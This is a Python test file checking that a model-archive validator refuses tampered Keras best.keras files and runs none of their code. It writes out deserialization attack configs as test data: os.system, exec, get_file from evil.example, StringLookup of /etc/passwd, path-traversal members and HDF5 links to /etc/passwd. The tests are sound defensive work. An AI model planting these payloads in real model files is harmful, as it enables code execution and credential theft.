"""A best.keras that carries code, or is none: built for real with Keras, refused in a sentence, never run."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import archives
import h5py
import pytest
from commands import ROOT, Completed, dhc, dhc_process
from prefork import EVIL_NETWORKS, Prefork

from dhc.errors import RunError
from dhc.files.archive import DamagedError
from dhc.jobs import evaluation
from dhc.models.plan import Add
from dhc.predict.archive import LayerValues, check_archive
from dhc.runs import rundir
from dhc.runs.store import Store
from faults.cases import Case, fault
from faults.house import EPOCHS, VICTIM, House, house, no_waiting

__all__ = ["house", "no_waiting"]


class Networks:
    """Real networks of Keras: a plain one, one with a Lambda layer that makes the folder `mark`, one with a layer of its own."""

    def __init__(self, folder: Path, popen: Callable[..., Any]) -> None:
        self.folder, self.mark = folder, folder / "code-ran"
        environment = {**os.environ, "KERAS_BACKEND": "tensorflow", "TF_CPP_MIN_LOG_LEVEL": "3"}
        command = [sys.executable, "-m", EVIL_NETWORKS, str(self.mark), str(folder)]
        with (folder / "log").open("wb") as log:
            assert popen(command, env=environment, stdout=log, stderr=log, cwd=ROOT).wait() == 0

    def give(self, house: House, name: str) -> Path:
        """The victim's best.keras is now this one."""
        return shutil.copy(self.folder / f"{name}.keras", house.folder / rundir.BEST)


@pytest.fixture(scope="module")
def networks(tmp_path_factory: pytest.TempPathFactory, prefork: Prefork | None) -> Networks:
    return Networks(tmp_path_factory.mktemp("networks"), prefork.popen if prefork else subprocess.Popen)


def refusal(house: House, run: Callable[..., Completed] = dhc) -> str:
    """What `python -m dhc evaluate … --split test` says, which must be one sentence and status 2."""
    process = run("evaluate", VICTIM, "--runs", str(house.runs), "--split", "test")
    assert process.returncode == 2, process.stderr
    assert process.stdout == ""
    return process.stderr


def rewrite(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """The archive with another config.json."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    change(config)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in (members | {"config.json": json.dumps(config).encode()}).items():
            archive.writestr(name, data)


@pytest.mark.slow
@fault(
    "a best.keras with a Lambda layer",
    done="saved by Keras with code in it; then `evaluate` and `predict`",
    state="finished",
    says="holds “keras.layers.Lambda”, which no network of ours has",
)
def test_a_network_with_a_lambda(house: House, case: Case, networks: Networks) -> None:
    check_archive(networks.give(house, "plain"))  # what a run of ours could have saved is let through
    networks.give(house, "lambda")
    assert "best.keras of run" in (sentence := refusal(house, dhc_process))
    assert case.is_said(sentence)
    out = house.runs / "out.csv"
    process = dhc("predict", VICTIM, "--split", "val", "--out", str(out), "--runs", str(house.runs))
    assert process.returncode == 2
    assert case.is_said(process.stderr)
    assert not networks.mark.exists()
    assert not out.exists()
    assert case.has_state(house.read().state)
    assert house.read().epochs_done == EPOCHS


@pytest.mark.slow
@fault(
    "a best.keras with a foreign registered layer",
    done="saved by Keras with a class registered elsewhere",
    says="Evil”, which no network of ours has",
)
def test_a_network_with_a_registered_object(house: House, case: Case, networks: Networks) -> None:
    networks.give(house, "registered")
    assert case.is_said(refusal(house))


ATTACKS: dict[str, dict[str, Any]] = {
    "system": {"module": "os", "class_name": "system", "config": "mkdir code-ran", "registered_name": None},
    "function": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
    "get_file": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://evil.example/x"}},
    "lookup": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
    "lambda": {"class_name": "__lambda__", "config": {"value": "abc"}},
    "registered": {"module": "keras.layers", "class_name": "Dense", "config": {}, "registered_name": "evil>Dense"},
    "typed": {"module": ["os"], "class_name": {"x": 1}},
}


@pytest.mark.slow
@fault(
    "a best.keras that names functions",
    done="os.system, exec, get_file, StringLookup of /etc/passwd, … put into the config of a real one",
    says="could carry code, so it was not loaded",
)
def test_a_network_that_names_functions(house: House, case: Case, networks: Networks) -> None:
    path = networks.give(house, "plain")
    whole = path.read_bytes()
    for attack in ATTACKS.values():
        path.write_bytes(whole)
        rewrite(path, lambda config, attack=attack: config["config"]["layers"].append(attack))  # type: ignore[misc]
        with pytest.raises(RunError, match="could carry code, so it was not loaded"):
            check_archive(path)
        path.write_bytes(whole)
        rewrite(path, lambda config, attack=attack: config["config"]["layers"][-1]["config"].update(activation=attack))  # type: ignore[misc]
        with pytest.raises(RunError, match="could carry code, so it was not loaded"):
            check_archive(path)
    assert case.is_said(refusal(house))


def test_a_skip_that_leads_nowhere_is_no_network_of_ours() -> None:
    """Where each tensor comes from is read from the file, too."""

    def skip(*names: object) -> LayerValues:
        tensors = [{"class_name": "__keras_tensor__", "config": {"keras_history": [name, 0, 0]}} for name in names]
        return LayerValues("Add", {}, [{"args": [tensors], "kwargs": {}}])

    before = ["conv", "norm", "relu"]
    assert skip("relu", "conv").planned(before) == skip("conv", "relu").planned(before) == Add(3)
    nodes: list[object] = [None, [], [{}], [{"args": []}], [{"args": [[{"config": 3}]]}], "xy", 7]
    wrong = [
        skip(*names) for names in (("conv",), ("conv", "norm"), ("relu", "relu"), ("relu", "x"), ("relu", ["conv"]))
    ]
    for layer in [*wrong, skip("conv", "norm", "relu"), *(LayerValues("Add", {}, each) for each in nodes)]:
        with pytest.raises(DamagedError, match="does not add an earlier layer to the last one"):
            layer.planned(before)


def archive(path: Path, **members: bytes) -> None:
    """A zip with those members besides what a .keras archive has."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in ({"metadata.json": b"{}", "config.json": b"{}", "model.weights.h5": b""} | members).items():
            file.writestr(name, data)


@fault(
    "a best.keras that would write elsewhere",
    done="members ../../x, /tmp/x and assets/x in the archive",
    says="which no run writes into it",
)
def test_members_that_leave_the_archive(house: House, case: Case) -> None:
    for name in ("../../evil.txt", "/tmp/evil.txt", "assets/evil.txt", "x" * 300):
        archive(house.folder / rundir.BEST, **{name: b"x"})
        with pytest.raises(RunError) as caught:
            check_archive(house.folder / rundir.BEST)
        assert case.is_said(str(caught.value))
        assert len(str(caught.value)) < 200


@fault(
    "a best.keras that is none",
    done="empty, text, half an archive, deep JSON, a bomb, a pipe, a folder, a link",
    says=("it is damaged", "cannot be read", "more than any network of ours"),
)
def test_a_network_that_is_none(house: House, case: Case, tmp_path: Path) -> None:
    path = house.folder / rundir.BEST
    archive(tmp_path / "whole")
    for data in (b"", b"text", (tmp_path / "whole").read_bytes()[:100], b"\x89HDF\r\n\x1a\n" + bytes(500)):
        path.write_bytes(data)
        with pytest.raises(RunError) as refused:
            check_archive(path)
        assert case.is_said(str(refused.value), 0)
    archive(path, **{"config.json": b"[" * 100_000})
    with pytest.raises(RunError, match="is no JSON of a network"):
        check_archive(path)
    archive(path, **{"config.json": b" " * 100_000_000})
    with pytest.raises(RunError) as refused:
        check_archive(path)
    assert case.is_said(str(refused.value), 2)
    for make in (os.mkfifo, Path.mkdir, lambda p: p.symlink_to("/etc/passwd")):
        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
        make(path)
        with pytest.raises(RunError) as refused:
            check_archive(path)
        assert case.is_said(str(refused.value), 1)
    assert Store(house.runs).run(VICTIM).epochs_done == EPOCHS


@pytest.mark.slow
@fault(
    "judging a network that carries code",
    done="the page's own evaluation in the background is asked of a run with a Lambda",
    says="it holds “keras.layers.Lambda”, which no network of ours has",
)
def test_the_background_judgement_says_why_it_failed(
    house: House, case: Case, networks: Networks, forked: None
) -> None:
    networks.give(house, "lambda")
    evaluation.start(house.folder)
    end = time.monotonic() + 50
    while (found := evaluation.evaluation(house.folder)) is None or found.pending:
        assert time.monotonic() < end
        time.sleep(0.2)
    assert case.is_said(found.failure)
    assert not networks.mark.exists()


def put_network(house: House, **changes: Any) -> str:
    """What `evaluate` says of a small network with such changes of its layers, as ``Dense__units=7``, or members."""
    members = {name: value for name, value in changes.items() if isinstance(value, bytes)}
    values = {name: value for name, value in changes.items() if name not in members}
    config = json.dumps(archives.network_config(**values)).encode()
    (house.folder / rundir.BEST).write_bytes(archives.network(config__json=config, **members))
    return refusal(house)


@pytest.mark.slow
@fault(
    "a best.keras whose layers say nonsense",
    done="a scale that is a text, units of 10⁴⁰⁰, a negative kernel, an activation that nobody knows, pools larger than maps",
    state="finished",
    says="cannot be used: it is damaged or was edited (it …; a copy of the run would train it anew",
)
def test_a_network_whose_layers_say_nonsense(house: House, case: Case) -> None:
    nonsense: dict[str, tuple[Any, ...]] = {
        "Rescaling__scale": ("text", None, -1, float("nan"), 1e308, [1]),
        "Dense__units": (0, -1, 2.5, True, 10**400, "3", [3, 3, 3]),
        "Conv2D__kernel_size": ([-3, 3], [3, 4], "3"),
        "Conv2D__padding": ("causal", 3),
        "Dense__activation": ("relu", "exponential", None),
        "MaxPooling2D__pool_size": ([64, 64],),
        "Dropout__rate": (2, "x"),
    }
    for name, values in nonsense.items():
        for value in values:
            config = json.dumps(archives.network_config(**{name: value})).encode()
            (house.folder / rundir.BEST).write_bytes(archives.network(config__json=config))
            with pytest.raises(RunError, match="it is damaged or was edited") as refused:
                check_archive(house.folder / rundir.BEST)
            assert len(str(refused.value)) < 300
    assert case.is_said(put_network(house, Rescaling__scale="text"))
    assert case.has_state(house.read().state)


@pytest.mark.slow
@fault(
    "a best.keras of another run",
    done="more classes than the run has, and a network of 4 GB in a file of 20 kB",
    says=(
        "it tells 2 classes apart, but the run has 3",
        "far larger network than its run's settings or its own weights",
    ),
)
def test_a_network_of_another_run(house: House, case: Case) -> None:
    assert case.is_said(put_network(house, Dense__units=2), 0)
    assert case.is_said(put_network(house, Conv2D__filters=1_000_000), 1)
    assert case.is_said(put_network(house, Resizing__height=4_000), 1)


@pytest.mark.slow
@fault(
    "a best.keras whose weights lead elsewhere",
    done="HDF5's links to other files, values that lie in /etc/passwd, 4 TB that nothing fills, 4 GB in one packed piece",
    says="its weights hold more than a network's, or lead elsewhere | its weights are stored as no run stores them | more weights than its layers",
)
def test_weights_that_lead_elsewhere(house: House, case: Case) -> None:
    strange: list[Callable[[h5py.File], object]] = [
        lambda file: file.__setitem__("layers/dense/vars/0", h5py.ExternalLink("/etc/passwd", "/x")),
        lambda file: file.__setitem__("layers/dense/vars/0", h5py.SoftLink("/layers")),
        lambda file: file.__setitem__("layers/dense/vars/0", file["layers"]),
        lambda file: file.create_dataset("layers/dense/vars/0", (2, 3), "f4", external=[("/etc/passwd", 0, 24)]),
        lambda file: file.create_dataset("layers/dense/vars/0", (10**6, 10**6), "f4"),
        lambda file: file.create_dataset("layers/dense/vars/0", (2,), "f4", maxshape=(None,), chunks=(10**9,)),
        lambda file: file.create_dataset("layers/dense/vars/0", data="text"),
    ]
    for put in strange:
        weights = io.BytesIO(archives.network_weights())
        with h5py.File(weights, "r+") as file:
            del file["layers/dense/vars/0"]
            put(file)
        assert case.is_said(put_network(house, model__weights__h5=weights.getvalue()))


@pytest.mark.slow
@fault(
    "a best.keras that answers nonsense",
    done="weights that are NaN, of other layers, or so large that all overflows",
    says=(
        "some of its weights are no finite numbers",
        "its weights do not fit its layers",
        "gives answers that are no probabilities, so its weights are damaged",
    ),
)
def test_a_network_that_answers_nonsense(house: House, case: Case) -> None:
    weights = io.BytesIO(archives.network_weights())
    with h5py.File(weights, "r+") as file:
        file["layers/conv2d/vars/0"][...] = float("nan")
    assert case.is_said(put_network(house, model__weights__h5=weights.getvalue()), 0)
    with h5py.File(weights, "r+") as file:
        file["layers/conv2d/vars/0"][...] = 1e38
        file["layers/dense/vars/0"][...] = 1e38
    assert case.is_said(put_network(house, model__weights__h5=weights.getvalue()), 2)
    with h5py.File(weights, "r+") as file:
        del file["layers/dense"]
    assert case.is_said(put_network(house, model__weights__h5=weights.getvalue()), 1)
